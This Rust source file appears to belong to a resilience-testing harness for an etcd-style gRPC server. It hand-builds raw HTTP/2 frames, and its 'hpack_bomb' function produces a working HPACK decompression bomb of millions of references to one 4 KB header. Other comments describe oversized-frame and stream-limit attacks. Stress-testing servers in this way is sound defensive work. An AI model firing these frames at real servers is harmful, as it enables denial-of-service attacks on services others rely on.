//! HTTP/2 by hand, for the attacks: a conforming library (h2) would refuse
//! to send what they send (a frame longer than the peer allows, a header
//! block that never ends, streams past the peer's limit), so frames are
//! built here byte by byte, and a reader task records what the server
//! answers: GOAWAY, RST_STREAM, the status of each response, the first gRPC
//! message of each stream.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::sync::Mutex as AsyncMutex;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const FRAME_HEADER_LEN: usize = 9;
/// HTTP/2's default SETTINGS_MAX_FRAME_SIZE, which every frame here keeps
/// to unless it means to break it.
pub const DEFAULT_MAX_FRAME: usize = 16_384;
/// The largest length a frame header can announce (24 bits).
pub const MAX_ANNOUNCED_LEN: usize = (1 << 24) - 1;

pub const DATA: u8 = 0x0;
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const PING: u8 = 0x6;
pub const GOAWAY: u8 = 0x7;
pub const WINDOW_UPDATE: u8 = 0x8;
pub const CONTINUATION: u8 = 0x9;

pub const END_STREAM: u8 = 0x1;
pub const ACK: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;

pub const SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
pub const SETTINGS_INITIAL_WINDOW_SIZE: u16 = 0x4;

/// RST_STREAM's CANCEL code, what a client that gives up on a call sends.
pub const CANCEL: u32 = 0x8;

/// The name of an HTTP/2 error code (RFC 9113 §7).
pub fn error_name(code: u32) -> String {
    let name = match code {
        0x0 => "NO_ERROR",
        0x1 => "PROTOCOL_ERROR",
        0x2 => "INTERNAL_ERROR",
        0x3 => "FLOW_CONTROL_ERROR",
        0x4 => "SETTINGS_TIMEOUT",
        0x5 => "STREAM_CLOSED",
        0x6 => "FRAME_SIZE_ERROR",
        0x7 => "REFUSED_STREAM",
        0x8 => "CANCEL",
        0x9 => "COMPRESSION_ERROR",
        0xa => "CONNECT_ERROR",
        0xb => "ENHANCE_YOUR_CALM",
        0xc => "INADEQUATE_SECURITY",
        0xd => "HTTP_1_1_REQUIRED",
        other => return format!("error {other:#x}"),
    };
    name.to_string()
}

/// A frame's 9-byte header: 24-bit length, type, flags, 31-bit stream id.
pub fn frame_header(len: usize, kind: u8, flags: u8, stream: u32) -> [u8; FRAME_HEADER_LEN] {
    let len = (len as u32).to_be_bytes();
    let stream = (stream & 0x7fff_ffff).to_be_bytes();
    [
        len[1], len[2], len[3], kind, flags, stream[0], stream[1], stream[2], stream[3],
    ]
}

/// A whole frame: header and payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(FRAME_HEADER_LEN + payload.len());
    out.extend_from_slice(&frame_header(payload.len(), kind, flags, stream));
    out.extend_from_slice(payload);
    out
}

/// An HPACK integer with an `prefix_bits`-bit prefix, the bits above the
/// prefix in the first byte taken from `first` (RFC 7541 §5.1).
pub fn hpack_int(out: &mut Vec<u8>, value: usize, prefix_bits: u8, first: u8) {
    let max = (1usize << prefix_bits) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A header field's name: an index into HPACK's static table, or spelled out.
pub enum Name<'a> {
    Static(usize),
    Literal(&'a str),
}

/// A literal field that leaves the dynamic table alone ("without
/// indexing", no Huffman), so every block built this way decodes the same
/// whatever was sent before it.
pub fn hpack_literal(out: &mut Vec<u8>, name: Name<'_>, value: &[u8]) {
    match name {
        Name::Static(index) => hpack_int(out, index, 4, 0x00),
        Name::Literal(name) => {
            out.push(0x00);
            hpack_int(out, name.len(), 7, 0x00);
            out.extend_from_slice(name.as_bytes());
        }
    }
    hpack_int(out, value.len(), 7, 0x00);
    out.extend_from_slice(value);
}

/// The header block of a gRPC call (`POST path`, `content-type:
/// application/grpc`, `te: trailers`), without credentials.
pub fn grpc_request_block(path: &str, authority: &str) -> Vec<u8> {
    let mut block = vec![
        0x83, // :method POST (static 3)
        0x86, // :scheme http (static 6)
    ];
    hpack_literal(&mut block, Name::Static(4), path.as_bytes()); // :path
    hpack_literal(&mut block, Name::Static(1), authority.as_bytes()); // :authority
    hpack_literal(&mut block, Name::Static(31), b"application/grpc"); // content-type
    hpack_literal(&mut block, Name::Literal("te"), b"trailers");
    block
}

/// The HPACK bomb: one HEADERS frame (stream 1) whose header announces
/// `announced_len` bytes: a ~4 KB literal added to the dynamic table, then
/// one-byte references to it (index 62, the newest dynamic entry) to the
/// end. Each reference decodes to the 4 KB field, so a server that decoded
/// before checking the header list's size would build gigabytes.
pub fn hpack_bomb(announced_len: usize) -> Vec<u8> {
    const VALUE_LEN: usize = 4_000; // with its name and 32 bytes, fits the 4,096-byte table
    let mut block = vec![0x40]; // literal with incremental indexing, new name
    hpack_int(&mut block, 1, 7, 0x00);
    block.push(b'x');
    hpack_int(&mut block, VALUE_LEN, 7, 0x00);
    block.resize(block.len() + VALUE_LEN, b'a');
    assert!(announced_len >= block.len() && announced_len <= MAX_ANNOUNCED_LEN);
    block.resize(announced_len, 0x80 | 62);
    let mut out = Vec::with_capacity(FRAME_HEADER_LEN + announced_len);
    out.extend_from_slice(&frame_header(
        announced_len,
        HEADERS,
        END_HEADERS | END_STREAM,
        1,
    ));
    out.extend_from_slice(&block);
    out
}

/// One gRPC message on the wire: uncompressed flag, 32-bit length, bytes.
pub fn grpc_message(message: &impl prost::Message) -> Vec<u8> {
    let body = message.encode_to_vec();
    let mut out = Vec::with_capacity(5 + body.len());
    out.push(0);
    out.extend_from_slice(&(body.len() as u32).to_be_bytes());
    out.extend_from_slice(&body);
    out
}

/// What the server has said on one connection so far.
#[derive(Default)]
pub struct Heard {
    pub settings: Vec<(u16, u32)>,
    /// (last stream id, error code, debug data), the first GOAWAY.
    pub goaway: Option<(u32, u32, String)>,
    /// RST_STREAM frames by error code.
    pub resets: BTreeMap<u32, u64>,
    /// Responses by what they said: `:status` other than 200,
    /// `grpc-status`/`grpc-message`, or the label `label_message` gave
    /// the stream's first gRPC message.
    pub answers: BTreeMap<String, u64>,
    /// Streams the server said anything about.
    pub streams_answered: HashSet<u32>,
    /// When and how the connection ended (EOF or a read error).
    pub closed: Option<(Instant, String)>,
    pub bytes_read: u64,
}

impl Heard {
    /// `GOAWAY CODE` if one came, else how the connection ended, else `None`.
    pub fn ending(&self) -> Option<String> {
        if let Some((last, code, debug)) = &self.goaway {
            let debug = if debug.is_empty() {
                String::new()
            } else {
                format!(" \"{debug}\"")
            };
            return Some(format!(
                "GOAWAY {}{debug} (last stream {last})",
                error_name(*code)
            ));
        }
        self.closed
            .as_ref()
            .map(|(_, how)| format!("connection closed ({how}) without GOAWAY"))
    }

    pub fn max_concurrent_streams(&self) -> Option<u32> {
        self.settings
            .iter()
            .rev()
            .find(|(id, _)| *id == SETTINGS_MAX_CONCURRENT_STREAMS)
            .map(|(_, v)| *v)
    }

    pub fn resets_text(&self) -> String {
        self.resets
            .iter()
            .map(|(code, n)| format!("{n} RST_STREAM {}", error_name(*code)))
            .collect::<Vec<_>>()
            .join(", ")
    }

    pub fn answers_text(&self) -> String {
        self.answers
            .iter()
            .map(|(what, n)| format!("{n}× {what}"))
            .collect::<Vec<_>>()
            .join(", ")
    }
}

/// A mutex that shrugs off poisoning: a reader that panicked must not
/// hide what it heard.
pub struct Shared<T>(std::sync::Mutex<T>);

impl<T> Shared<T> {
    pub fn new(value: T) -> Self {
        Shared(std::sync::Mutex::new(value))
    }

    pub fn lock(&self) -> std::sync::MutexGuard<'_, T> {
        self.0.lock().unwrap_or_else(|e| e.into_inner())
    }
}

/// Names a stream's first gRPC message (e.g. a WatchResponse's cancel reason).
pub type LabelMessage = fn(&[u8]) -> String;

/// One raw HTTP/2 connection: writes are the attacker's, reads are a task's.
pub struct RawH2 {
    writer: Arc<AsyncMutex<OwnedWriteHalf>>,
    pub heard: Arc<Shared<Heard>>,
    /// What the server's connection-level flow-control window still takes
    /// of our DATA.
    send_window: Arc<AtomicI64>,
    reader: tokio::task::JoinHandle<()>,
}

/// Our connection window: large, so the server never waits on us to
/// read its answers (the attack is what we send).
const OUR_WINDOW: u32 = (1 << 31) - 1;

impl RawH2 {
    /// Connects, sends the preface and our SETTINGS (a large stream window,
    /// and the connection window opened wide), and waits up to 5 s for the
    /// server's SETTINGS.
    pub async fn connect(addr: SocketAddr, label: Option<LabelMessage>) -> Result<RawH2, String> {
        let stream = TcpStream::connect(addr)
            .await
            .map_err(|e| format!("connecting to {addr}: {e}"))?;
        let _ = stream.set_nodelay(true);
        let (mut read, mut write) = stream.into_split();
        let mut hello = PREFACE.to_vec();
        let mut settings = Vec::new();
        settings.extend_from_slice(&SETTINGS_INITIAL_WINDOW_SIZE.to_be_bytes());
        settings.extend_from_slice(&(1u32 << 24).to_be_bytes());
        hello.extend(frame(SETTINGS, 0, 0, &settings));
        hello.extend(frame(
            WINDOW_UPDATE,
            0,
            0,
            &(OUR_WINDOW - 65_535).to_be_bytes(),
        ));
        write.write_all(&hello).await.map_err(|e| e.to_string())?;
        let writer = Arc::new(AsyncMutex::new(write));
        let heard = Arc::new(Shared::new(Heard::default()));
        let send_window = Arc::new(AtomicI64::new(65_535));
        let (settled_tx, settled_rx) = tokio::sync::oneshot::channel();
        let reader = {
            let (writer, heard, send_window) = (writer.clone(), heard.clone(), send_window.clone());
            tokio::spawn(async move {
                let mut reader = FrameReader {
                    writer,
                    heard,
                    send_window,
                    label,
                    decoder: loona_hpack::Decoder::new(),
                    block: None,
                    messages: HashMap::new(),
                    settled: Some(settled_tx),
                };
                let why = reader.run(&mut read).await;
                reader.heard.lock().closed = Some((Instant::now(), why));
            })
        };
        let _ = tokio::time::timeout(Duration::from_secs(5), settled_rx).await;
        Ok(RawH2 {
            writer,
            heard,
            send_window,
            reader,
        })
    }

    /// Writes bytes as they are; an error once the server has gone.
    pub async fn send(&self, bytes: &[u8]) -> Result<(), String> {
        self.writer
            .lock()
            .await
            .write_all(bytes)
            .await
            .map_err(|e| e.to_string())
    }

    /// Takes `len` bytes of the server's connection window for DATA,
    /// waiting (until `deadline`) for its WINDOW_UPDATEs; false if it
    /// did not open in time (sending more would be a flow-control error,
    /// which is not the attack).
    pub async fn reserve_window(&self, len: usize, deadline: Instant) -> bool {
        loop {
            let available = self.send_window.load(Ordering::Acquire);
            if available >= len as i64 {
                self.send_window.fetch_sub(len as i64, Ordering::AcqRel);
                return true;
            }
            if Instant::now() >= deadline || self.gone() {
                return false;
            }
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
    }

    /// The server sent GOAWAY or the connection ended.
    pub fn gone(&self) -> bool {
        let heard = self.heard.lock();
        heard.goaway.is_some() || heard.closed.is_some()
    }

    /// Waits until the connection ends or `deadline`.
    pub async fn wait_closed(&self, deadline: Instant) {
        while self.heard.lock().closed.is_none() && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
}

impl Drop for RawH2 {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

/// The reading half's state: HPACK (the server's dynamic table), a header
/// block in progress, each stream's first gRPC message in progress.
struct FrameReader {
    writer: Arc<AsyncMutex<OwnedWriteHalf>>,
    heard: Arc<Shared<Heard>>,
    send_window: Arc<AtomicI64>,
    label: Option<LabelMessage>,
    decoder: loona_hpack::Decoder<'static>,
    /// (stream, fragments so far) until END_HEADERS.
    block: Option<(u32, Vec<u8>)>,
    /// Each stream's first gRPC message, until it is whole (then an
    /// empty marker, so later messages are not counted).
    messages: HashMap<u32, Option<Vec<u8>>>,
    settled: Option<tokio::sync::oneshot::Sender<()>>,
}

impl FrameReader {
    /// Reads frames until the connection ends; returns how it ended.
    async fn run(&mut self, read: &mut tokio::net::tcp::OwnedReadHalf) -> String {
        loop {
            let mut head = [0u8; FRAME_HEADER_LEN];
            if let Err(e) = read.read_exact(&mut head).await {
                return match e.kind() {
                    std::io::ErrorKind::UnexpectedEof => "EOF".into(),
                    _ => e.to_string(),
                };
            }
            let len =
                (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
            let (kind, flags) = (head[3], head[4]);
            let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
            let mut payload = vec![0u8; len];
            if let Err(e) = read.read_exact(&mut payload).await {
                return format!("cut mid-frame: {e}");
            }
            self.heard.lock().bytes_read += (FRAME_HEADER_LEN + len) as u64;
            self.frame(kind, flags, stream, &payload).await;
        }
    }

    async fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        match kind {
            SETTINGS if flags & ACK == 0 => {
                {
                    let mut heard = self.heard.lock();
                    for c in payload.chunks_exact(6) {
                        let id = u16::from_be_bytes([c[0], c[1]]);
                        let value = u32::from_be_bytes([c[2], c[3], c[4], c[5]]);
                        heard.settings.push((id, value));
                    }
                }
                let _ = self.reply(&frame(SETTINGS, ACK, 0, &[])).await;
                if let Some(settled) = self.settled.take() {
                    let _ = settled.send(());
                }
            }
            PING if flags & ACK == 0 => {
                let _ = self.reply(&frame(PING, ACK, 0, payload)).await;
            }
            GOAWAY if payload.len() >= 8 => {
                let last = u32::from_be_bytes(payload[0..4].try_into().unwrap()) & 0x7fff_ffff;
                let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
                let mut heard = self.heard.lock();
                if heard.goaway.is_none() {
                    heard.goaway = Some((last, code, debug));
                }
            }
            RST_STREAM if payload.len() >= 4 => {
                let code = u32::from_be_bytes(payload[0..4].try_into().unwrap());
                let mut heard = self.heard.lock();
                *heard.resets.entry(code).or_default() += 1;
                heard.streams_answered.insert(stream);
            }
            WINDOW_UPDATE if stream == 0 && payload.len() >= 4 => {
                let increment = u32::from_be_bytes(payload[0..4].try_into().unwrap()) & 0x7fff_ffff;
                self.send_window
                    .fetch_add(i64::from(increment), Ordering::AcqRel);
            }
            HEADERS => {
                self.heard.lock().streams_answered.insert(stream);
                let fragment = header_fragment(flags, payload);
                self.block = Some((stream, fragment.to_vec()));
                if flags & END_HEADERS != 0 {
                    self.finish_block();
                }
            }
            CONTINUATION => {
                if let Some((_, block)) = &mut self.block {
                    block.extend_from_slice(payload);
                }
                if flags & END_HEADERS != 0 {
                    self.finish_block();
                }
            }
            DATA => {
                self.heard.lock().streams_answered.insert(stream);
                self.data(stream, data_fragment(flags, payload));
            }
            _ => {}
        }
    }

    async fn reply(&self, bytes: &[u8]) -> std::io::Result<()> {
        self.writer.lock().await.write_all(bytes).await
    }

    /// Decodes a whole header block and tallies what it says.
    fn finish_block(&mut self) {
        let Some((_, block)) = self.block.take() else {
            return;
        };
        let fields = match self.decoder.decode(&block) {
            Ok(fields) => fields,
            Err(e) => {
                *self
                    .heard
                    .lock()
                    .answers
                    .entry(format!("undecodable headers: {e:?}"))
                    .or_default() += 1;
                return;
            }
        };
        let field = |name: &str| {
            fields
                .iter()
                .find(|(n, _)| n == name.as_bytes())
                .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
        };
        let what = match (field(":status"), field("grpc-status")) {
            (_, Some(code)) => {
                let message = field("grpc-message").map(|m| percent_decode(&m));
                match (code.as_str(), message) {
                    ("0", _) => None,
                    (_, Some(m)) => Some(format!("grpc-status {} \"{m}\"", grpc_code_name(&code))),
                    (_, None) => Some(format!("grpc-status {}", grpc_code_name(&code))),
                }
            }
            (Some(status), None) if status != "200" => Some(format!("HTTP {status}")),
            _ => None,
        };
        if let Some(what) = what {
            *self.heard.lock().answers.entry(what).or_default() += 1;
        }
    }

    /// Collects a stream's first gRPC message and tallies its label.
    fn data(&mut self, stream: u32, bytes: &[u8]) {
        let Some(label) = self.label else { return };
        let slot = self
            .messages
            .entry(stream)
            .or_insert_with(|| Some(Vec::new()));
        let Some(buffer) = slot.as_mut() else {
            return;
        };
        buffer.extend_from_slice(bytes);
        if buffer.len() < 5 {
            return;
        }
        let len = u32::from_be_bytes(buffer[1..5].try_into().unwrap()) as usize;
        if buffer.len() < 5 + len {
            return;
        }
        let what = label(&buffer[5..5 + len]);
        *slot = None;
        *self.heard.lock().answers.entry(what).or_default() += 1;
    }
}

/// A HEADERS payload without its padding and priority fields.
fn header_fragment(flags: u8, payload: &[u8]) -> &[u8] {
    const PADDED: u8 = 0x8;
    const PRIORITY: u8 = 0x20;
    let mut body = payload;
    let mut pad = 0;
    if flags & PADDED != 0 && !body.is_empty() {
        pad = usize::from(body[0]);
        body = &body[1..];
    }
    if flags & PRIORITY != 0 && body.len() >= 5 {
        body = &body[5..];
    }
    &body[..body.len().saturating_sub(pad)]
}

/// A DATA payload without its padding.
fn data_fragment(flags: u8, payload: &[u8]) -> &[u8] {
    const PADDED: u8 = 0x8;
    if flags & PADDED != 0 && !payload.is_empty() {
        let pad = usize::from(payload[0]);
        return &payload[1..payload.len().saturating_sub(pad).max(1)];
    }
    payload
}

/// gRPC's status code names.
pub fn grpc_code_name(code: &str) -> String {
    let name = match code {
        "0" => "OK",
        "1" => "Cancelled",
        "2" => "Unknown",
        "3" => "InvalidArgument",
        "4" => "DeadlineExceeded",
        "5" => "NotFound",
        "6" => "AlreadyExists",
        "7" => "PermissionDenied",
        "8" => "ResourceExhausted",
        "9" => "FailedPrecondition",
        "10" => "Aborted",
        "11" => "OutOfRange",
        "12" => "Unimplemented",
        "13" => "Internal",
        "14" => "Unavailable",
        "15" => "DataLoss",
        "16" => "Unauthenticated",
        other => return format!("code {other}"),
    };
    name.to_string()
}

/// `grpc-message` is percent-encoded.
fn percent_decode(text: &str) -> String {
    percent_encoding::percent_decode_str(text)
        .decode_utf8_lossy()
        .into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_hpack_bomb_is_one_headers_frame_announcing_its_full_length() {
        let bomb = hpack_bomb(MAX_ANNOUNCED_LEN);
        assert_eq!(bomb.len(), FRAME_HEADER_LEN + MAX_ANNOUNCED_LEN);
        // Length 0xffffff, HEADERS, END_HEADERS | END_STREAM, stream 1.
        assert_eq!(bomb[..9], [0xff, 0xff, 0xff, 0x01, 0x05, 0, 0, 0, 1]);
        // A literal with incremental indexing: name "x", a 4,000-byte value
        // (7-bit prefix full, then 3,873 in two 7-bit groups).
        assert_eq!(bomb[9..15], [0x40, 0x01, b'x', 0x7f, 0xa1, 0x1e]);
        assert!(bomb[15..4_015].iter().all(|&b| b == b'a'));
        // Then nothing but references to dynamic entry 62.
        assert!(bomb[4_015..].iter().all(|&b| b == 0xbe));
    }

    #[test]
    fn the_hpack_bomb_decodes_to_repeats_of_its_one_field() {
        let bomb = hpack_bomb(4_006 + 3);
        let fields = loona_hpack::Decoder::new().decode(&bomb[9..]).unwrap();
        assert_eq!(fields.len(), 4);
        assert!(fields.iter().all(|(n, v)| n == b"x" && v.len() == 4_000));
    }

    #[test]
    fn hpack_integers_follow_rfc_7541() {
        // C.1.1-C.1.3: 10 in 5 bits, 1337 in 5 bits, 42 in 8 bits.
        let mut out = Vec::new();
        hpack_int(&mut out, 10, 5, 0);
        hpack_int(&mut out, 1337, 5, 0);
        hpack_int(&mut out, 42, 8, 0);
        assert_eq!(out, [0x0a, 0x1f, 0x9a, 0x0a, 0x2a]);
    }

    #[test]
    fn a_grpc_request_block_decodes_to_a_grpc_call() {
        let block = grpc_request_block("/etcdserverpb.KV/Range", "127.0.0.1:2379");
        let fields = loona_hpack::Decoder::new().decode(&block).unwrap();
        let text: Vec<(String, String)> = fields
            .into_iter()
            .map(|(n, v)| (String::from_utf8(n).unwrap(), String::from_utf8(v).unwrap()))
            .collect();
        let pairs: Vec<(&str, &str)> = text.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
        assert_eq!(
            pairs,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", "/etcdserverpb.KV/Range"),
                (":authority", "127.0.0.1:2379"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ]
        );
    }

    #[test]
    fn grpc_messages_are_percent_decoded() {
        assert_eq!(
            percent_decode("etcdserver:%20user%20name%20is%20empty"),
            "etcdserver: user name is empty"
        );
        assert_eq!(percent_decode("100%"), "100%");
    }
}
